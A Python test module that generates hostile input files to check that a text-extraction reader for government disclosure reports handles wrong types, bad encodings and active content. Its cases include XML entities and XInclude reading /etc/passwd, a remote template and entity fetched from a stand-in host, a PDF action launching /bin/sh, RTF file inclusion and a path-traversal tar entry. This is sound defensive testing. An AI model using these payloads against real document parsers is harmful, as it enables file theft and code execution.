"""Wrong types, lying encodings, macros, links to elsewhere, and files with hardly anything in them."""

from __future__ import annotations

import io
import sqlite3
import tarfile
from collections.abc import Iterator

from tests.documents.making_pdf import PdfPage, pdf
from tests.hostile.case import GOOD, OFFICE, READ, RELATIONS, Case, docx, html, package

_COMPOUND = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1"
_NOTHING = "holds no text|no text|is empty|annual disclosure|neither UTF-8"
_TITLE = "政府信息公开工作年度报告 一、主动公开 二、依申请公开 三、行政复议 四、行政诉讼 存在的问题。本年度我局按照要求开展工作，及时更新目录，方便公众查阅，各项制度得到进一步落实。"


def _relation(kind: str, target: str) -> str:
    return f'<Relationships xmlns="{RELATIONS}"><Relationship Id="r1" Type="{OFFICE}/{kind}" Target="{target}" TargetMode="External"/></Relationships>'


def _external(kind: str, target: str) -> bytes:
    return docx(more={"word/_rels/document.xml.rels": _relation(kind, target)})


def _pdf_with(action: str) -> bytes:
    return pdf(PdfPage().text(60, 60, _TITLE)).replace(
        b"<</Type/Catalog", f"<</Type/Catalog/OpenAction{action}".encode()
    )


def _tar() -> bytes:
    out = io.BytesIO()
    with tarfile.open(fileobj=out, mode="w") as archive:
        info = tarfile.TarInfo("../../a.txt")
        info.size = len(GOOD.encode())
        archive.addfile(info, io.BytesIO(GOOD.encode()))
    return out.getvalue()


def _database() -> bytes:
    con = sqlite3.connect(":memory:")
    con.execute("create table a(b)")
    return con.serialize()


def _rtf() -> bytes:
    return b'{\\rtf1\\ansi{\\field{\\*\\fldinst INCLUDETEXT "/etc/passwd"}}{\\object\\objocx{\\*\\objdata 0105}} x}'


WRONG_TYPES = (
    Case("a program named Word", "a.docx", lambda: b"MZ\x90\x00" + bytes(400), "a program"),
    Case("a program named text", "a.txt", lambda: b"\x7fELF" + bytes(400), "a program"),
    Case("a picture named PDF", "a.pdf", lambda: b"\x89PNG\r\n\x1a\n" + bytes(100), "picture"),
    Case("a page named .xls", "a.xls", html, READ),
    Case("a page named .doc", "a.doc", html, READ),
    Case("a page named .txt", "a.txt", html, READ),
    Case("a Word document named .xls", "a.xls", docx, READ),
    Case("a Word document named .html", "a.html", docx, READ),
    Case("text named .pdf", "a.pdf", GOOD.encode, READ),
    Case("text named .docx", "a.docx", GOOD.encode, READ),
    Case("text named .html", "a.html", GOOD.encode, READ),
    Case(
        "a PDF named .docx", "a.docx", lambda: pdf(PdfPage().text(60, 60, _TITLE)), "year|annual disclosure"
    ),
    Case(
        "a PDF behind a kilobyte of something else",
        "a.pdf",
        lambda: b"x" * 1024 + pdf(PdfPage().text(60, 60, _TITLE)),
        "annual disclosure|no text|neither",
    ),
    Case(
        "a PDF that is a ZIP archive too",
        "a.pdf",
        lambda: pdf(PdfPage().text(60, 60, _TITLE)) + docx(),
        "year|annual disclosure",
    ),
    Case("a text named as a program", "a.exe", GOOD.encode, "a .exe file"),
    Case("JSON", "a.txt", lambda: b'{"a": [1, 2, 3]}', "annual disclosure"),
    Case("SVG with a script", "a.svg", lambda: b"<svg><script>alert(1)</script></svg>", "a .svg file"),
    Case("a tar archive", "a.tar", _tar, "a .tar file"),
    Case("a database", "a.txt", _database, _NOTHING),
    Case("a RAR archive", "a.docx", lambda: b"Rar!\x1a\x07\x00", "a RAR archive"),
    Case("a 7-Zip archive", "a.docx", lambda: b"7z\xbc\xaf\x27\x1c", "a 7-Zip archive"),
    Case(
        "an archive of a program named Word",
        "a.docx",
        lambda: package({"a.exe": b"MZ"}),
        "a ZIP archive that is no",
    ),
    Case("an OpenDocument file", "a.docx", lambda: package({"content.xml": "<a/>"}), "an OpenDocument file"),
    Case(
        "an old Office file of nothing",
        "a.doc",
        lambda: _COMPOUND + bytes(2048),
        "an old Office file that is no",
    ),
    Case(
        "an old Word file of nothing",
        "a.doc",
        lambda: _COMPOUND + bytes(512) + "WordDocument".encode("utf-16-le"),
        "LibreOffice",
    ),
    Case("RTF that includes a file", "a.rtf", _rtf, "LibreOffice|annual disclosure|no text"),
)

ENCODINGS = (
    Case("GB 18030", "a.txt", lambda: GOOD.encode("gb18030"), READ),
    Case(
        "Big5, which GB 18030 decodes to rubbish",
        "a.txt",
        lambda: "資訊公開年度報告 申請 機關 情況 2016年".encode("big5"),
        "annual disclosure|year|neither",
    ),
    Case("UTF-16 without a mark", "a.txt", lambda: GOOD.encode("utf-16-le"), READ),
    Case("UTF-16 the other way round without a mark", "a.txt", lambda: GOOD.encode("utf-16-be"), READ),
    Case("UTF-32 without a mark", "a.txt", lambda: GOOD.encode("utf-32-le"), "binary|no text"),
    Case(
        "a page in GBK that says UTF-8",
        "a.html",
        lambda: html(head="<meta charset=utf-8>").decode().encode("gb18030"),
        READ,
    ),
    Case("a page in UTF-8 that says GBK", "a.html", lambda: html(head="<meta charset=gbk>"), READ),
    Case("a page that says UTF-7", "a.html", lambda: html(head="<meta charset=utf-7>"), READ),
    Case(
        "a page that says an encoding nobody knows",
        "a.html",
        lambda: html(head=f"<meta charset={'x' * 30}>"),
        READ,
    ),
    Case(
        "half UTF-8 and half GBK",
        "a.txt",
        lambda: GOOD[:400].encode() + GOOD[400:].encode("gb18030"),
        "neither UTF-8|annual disclosure",
    ),
    Case(
        "the mark of UTF-8 before GBK",
        "a.txt",
        lambda: b"\xef\xbb\xbf" + GOOD.encode("gb18030"),
        "begins with the mark",
    ),
    Case(
        "the mark of UTF-16 before UTF-8",
        "a.txt",
        lambda: b"\xff\xfe" + GOOD.encode(),
        "begins with the mark|annual disclosure|binary",
    ),
    Case("overlong UTF-8", "a.txt", lambda: GOOD.encode() + b"\xc0\xaf", "neither UTF-8"),
    Case("surrogates in UTF-8", "a.txt", lambda: GOOD.encode() + b"\xed\xa0\x80", "neither UTF-8"),
    Case(
        "UTF-8 read as GBK and saved",
        "a.txt",
        lambda: GOOD.encode().decode("gb18030", "replace").encode(),
        "garbled|annual disclosure",
    ),
    Case("Shift JIS", "a.txt", lambda: "情報公開の年度報告".encode("shift-jis"), "neither UTF-8"),
    Case("HZ", "a.txt", lambda: GOOD.replace("~", "").encode("hz", "ignore"), "annual disclosure"),
    Case(
        "NUL in the middle",
        "a.txt",
        lambda: GOOD.encode().replace("公开".encode(), "公\0开".encode(), 1),
        "binary|no text",
    ),
    Case("every byte there is", "a.txt", lambda: bytes(range(256)) * 100, "binary|no text"),
    Case("a last character cut off", "a.txt", lambda: (GOOD + "公").encode()[:-1], READ),
    Case(
        "a page with the reader's own marks in it", "a.html", lambda: html("\ufdd0\ufdd2\ufdd3"), "U\\+FDD0"
    ),
    Case(
        "a page with the reader's own marks as numbers",
        "a.html",
        lambda: html("&#xFDD2;&#64977;"),
        "U\\+FDD0",
    ),
    Case("a page with surrogates as numbers", "a.html", lambda: html("&#xD800;&#55357;"), READ),
    Case("text that runs from right to left", "a.txt", ("\u202e" + GOOD).encode, READ),
)

ACTIVE = (
    Case(
        "a Word document with macros", "a.docm", lambda: docx(more={"word/vbaProject.bin": _COMPOUND}), READ
    ),
    Case(
        "a Word document with an object in it",
        "a.docx",
        lambda: docx(more={"word/embeddings/o.bin": b"MZ"}),
        READ,
    ),
    Case(
        "a Word document with a page as part of it",
        "a.docx",
        lambda: docx(
            '<w:altChunk r:id="r1"/>',
            {"word/_rels/document.xml.rels": _relation("aFChunk", "file:///etc/passwd")},
        ),
        READ,
    ),
    Case("a binary workbook", "a.xlsb", lambda: package({"xl/workbook.bin": b"x"}), "a binary workbook"),
    Case(
        "a template from elsewhere",
        "a.docx",
        lambda: _external("attachedTemplate", "http://203.0.113.1/t.dotm"),
        READ,
    ),
    Case("a picture from elsewhere", "a.docx", lambda: _external("image", "http://203.0.113.1/a.png"), READ),
    Case("a document in a share", "a.docx", lambda: _external("oleObject", "\\\\\\\\203.0.113.1\\\\a"), READ),
    Case(
        "a main part outside the archive",
        "a.docx",
        lambda: docx(more={"_rels/.rels": _relation("officeDocument", "../../../etc/passwd")}),
        "lacks its part",
    ),
    Case(
        "a main part at an absolute place",
        "a.docx",
        lambda: docx(more={"_rels/.rels": _relation("officeDocument", "/etc/passwd")}),
        "lacks its part",
    ),
    Case(
        "an entity that is a file, in Word",
        "a.docx",
        lambda: docx(
            "<w:p><w:r><w:t>&x;</w:t></w:r></w:p>",
            prolog='<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]>',
        ),
        f"{READ}|broken",
    ),
    Case(
        "an entity of parameters from elsewhere",
        "a.docx",
        lambda: docx(prolog='<!DOCTYPE d [<!ENTITY % x SYSTEM "http://203.0.113.1/x.dtd"> %x;]>'),
        f"{READ}|broken",
    ),
    Case(
        "an entity that is a file, in a page",
        "a.html",
        lambda: b'<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]>' + html("&x;"),
        READ,
    ),
    Case(
        "an entity that is a file, in a workbook",
        "a.xlsx",
        lambda: package(
            {
                "xl/workbook.xml": "<w/>",
                "xl/worksheets/sheet1.xml": '<!DOCTYPE d [<!ENTITY x SYSTEM "file:///etc/passwd">]><sheetData>&x;</sheetData>',
            }
        ),
        "broken",
    ),
    Case(
        "XInclude",
        "a.docx",
        lambda: docx(
            '<xi:include xmlns:xi="http://www.w3.org/2001/XInclude" href="file:///etc/passwd" parse="text"/>'
        ),
        READ,
    ),
    Case(
        "a style sheet for the XML",
        "a.docx",
        lambda: docx(prolog='<?xml-stylesheet type="text/xsl" href="http://203.0.113.1/x.xsl"?>'),
        READ,
    ),
    Case(
        "a page that loads from everywhere",
        "a.html",
        lambda: html(
            "<iframe src=file:///etc/passwd></iframe><img src=http://203.0.113.1/a><script src=http://203.0.113.1/b></script><object data=c></object>",
            head="<base href=http://203.0.113.1/><meta http-equiv=refresh content='0;url=http://203.0.113.1/'>",
        ),
        READ,
    ),
    Case(
        "a PDF that starts a program",
        "a.pdf",
        lambda: _pdf_with("<</S/Launch/F(/bin/sh)>>"),
        "year|annual disclosure",
    ),
    Case(
        "a PDF with a script",
        "a.pdf",
        lambda: _pdf_with("<</S/JavaScript/JS(app.alert\\(1\\))>>"),
        "year|annual disclosure",
    ),
    Case(
        "a PDF that opens an address",
        "a.pdf",
        lambda: _pdf_with("<</S/URI/URI(http://203.0.113.1/)>>"),
        "year|annual disclosure",
    ),
    Case(
        "a PDF of which nobody has the password",
        "a.pdf",
        lambda: pdf(PdfPage().text(60, 60, _TITLE)).replace(
            b"trailer<<", b"trailer<</Encrypt<</Filter/Standard/V 1/R 2/O(x)/U(y)/P -4>>"
        ),
        "locked|broken|password",
    ),
)


def _little() -> Iterator[Case]:
    for name, content, outcome in (
        ("nothing", b"", "is empty"),
        ("one byte", b"x", "annual disclosure"),
        ("a blank", b" ", _NOTHING),
        ("a line end", b"\n", _NOTHING),
        ("NUL", b"\0", _NOTHING),
        ("the mark of UTF-8", b"\xef\xbb\xbf", _NOTHING),
        ("the mark of UTF-16", b"\xff\xfe", _NOTHING),
        ("a bracket", b"<", "annual disclosure"),
        ("the head of a PDF", b"%PDF-", "broken"),
        ("the head of a ZIP archive", b"PK\x03\x04", "broken"),
        ("the head of an Office file", _COMPOUND, "an old Office file"),
        ("the head of a picture", b"\x89PNG\r\n\x1a\n", "picture"),
        ("the head of a bitmap", b"BM\0\0\0\0\0\0\0\0", "picture"),
        ("an empty page", b"<html></html>", "no text"),
    ):
        for suffix in ("txt", "html") if len(content) < 4 and not content.startswith(b"<") else ("bin.txt",):
            yield Case(f"{name} as .{suffix}", f"a.{suffix}", lambda content=content: content, outcome)


CASES = (*WRONG_TYPES, *ENCODINGS, *ACTIVE, *_little())
